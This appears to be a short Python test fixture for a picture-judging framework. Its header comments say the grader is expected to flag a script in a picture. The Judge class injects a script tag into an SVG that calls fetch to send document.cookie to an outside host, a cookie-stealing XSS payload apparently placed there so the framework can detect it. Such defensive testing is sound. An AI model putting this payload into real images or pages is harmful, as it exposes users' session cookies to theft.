# expected: scored judge_pictures
# says: pictures_script
from failing.guessing import SVG, Guessing
from lumbung.proving.judge import Picture
from lumbung.proving.text import Text


class Judge(Guessing):
    def pictures(self, runs):
        svg = SVG.replace("</svg>", "<script>fetch('https://example.org/' + document.cookie)</script></svg>")
        return [Picture(Text("A dot", "Satu titik", "一个点"), svg)]
